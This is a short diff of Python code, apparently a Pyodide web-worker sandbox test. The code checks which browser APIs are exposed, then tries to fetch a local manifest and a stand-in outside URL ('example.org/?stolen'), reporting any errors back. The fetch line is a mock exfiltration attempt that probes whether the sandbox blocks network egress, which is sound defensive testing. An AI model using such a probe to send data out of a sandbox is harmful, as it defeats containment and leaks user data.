@@ -540,7 +540,7 @@ import js, json
 for name in ("XMLHttpRequest", "WebSocket", "Worker", "indexedDB", "caches", "BroadcastChannel"):
     print(name, hasattr(js, name))
 print(hasattr(js.navigator, "storage"), hasattr(js.WorkerGlobalScope.prototype, "fetch"))
-def tell(error):
+def tell(error, js=js, json=json):  # names are gone when the program has ended
     js.postMessage(js.JSON.parse(json.dumps({"kind": "text", "content": error.message})))
 for address in ("manifest.json", "https://example.org/?stolen"):
     js.fetch(address).catch(tell)
